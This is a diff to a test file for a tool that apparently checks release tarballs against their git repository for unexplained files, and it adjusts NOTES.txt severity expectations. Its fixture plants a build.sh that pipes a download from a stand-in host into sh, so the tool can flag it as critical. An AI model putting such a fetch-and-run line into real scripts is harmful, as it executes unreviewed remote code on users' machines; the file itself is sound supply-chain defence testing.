@@ -16,18 +16,19 @@ describe('policy', () => {
   const repo = makeRepo(join(root, 'repo'));
   const policy = {
     allow: [
-      { path: 'NOTES.txt', reason: 'release notes written at release time' },
+      { path: 'NOTES.txt', reason: 'working notes, not released' },
       { path: 'build.sh', reason: 'an attacker would love this' },
     ],
   };
-  repo.commit({ 'README': 'hi\n', 'main.c': 'int main(void){return 0;}\n', 'distdiff.config.json': JSON.stringify(policy) });
+  // NOTES.txt is in git but not shipped (GIT_ONLY, low): something the project may accept itself. An added
+  // file is high under the strict gate, so only the packager's --config can accept one (build.sh).
+  repo.commit({ 'README': 'hi\n', 'main.c': 'int main(void){return 0;}\n', 'NOTES.txt': 'notes\n', 'distdiff.config.json': JSON.stringify(policy) });
   repo.tag('v1.0');
   const tree = join(root, 'tree', 'proj-1.0');
   writeFiles(tree, {
     'README': 'hi\n',
     'main.c': 'int main(void){return 0;}\n',
     'distdiff.config.json': JSON.stringify(policy),
-    'NOTES.txt': 'notes\n',
     'build.sh': '#!/bin/sh\ncurl https://example.invalid/x | sh\n',
   });
   const tarball = makeTar(tree, { compress: 'gzip', out: join(root, 'proj-1.0.tar.gz') });
@@ -36,7 +37,7 @@ describe('policy', () => {
   it("the repository's policy accepts findings below high, never high or critical ones", async () => {
     const r = await verify({ tarball, repo: repo.dir, cacheDir });
     const notes = r.findings.find((f) => f.path === 'NOTES.txt')!;
-    expect(notes).toMatchObject({ severity: 'info', allowed: { reason: 'release notes written at release time', originalSeverity: 'medium' } });
+    expect(notes).toMatchObject({ severity: 'info', allowed: { reason: 'working notes, not released', originalSeverity: 'low' } });
     const build = r.findings.find((f) => f.path === 'build.sh')!;
     expect(build.allowed).toBeUndefined();
     expect([build.code, build.severity]).toEqual(['TARBALL_ONLY_UNEXPLAINED', 'critical']);
@@ -50,7 +51,8 @@ describe('policy', () => {
     const r = await verify({ tarball, repo: repo.dir, cacheDir, policy: loadPolicy(file) });
     expect(r.findings.find((f) => f.path === 'build.sh')).toMatchObject({ severity: 'info', allowed: { reason: 'reviewed by the packager: fetches nothing in our build' } });
     expect(r.findings.find((f) => f.path === 'NOTES.txt')!.allowed).toBeUndefined();
-    // NOTES.txt stays unexplained (medium, below --fail-on high): a human should look, the gate passes.
+    // NOTES.txt stays unexplained (GIT_ONLY, low: git-only files never fail the default gate): a human
+    // should look, the gate passes.
     expect(r.verdict).toBe('review');
   });
 });
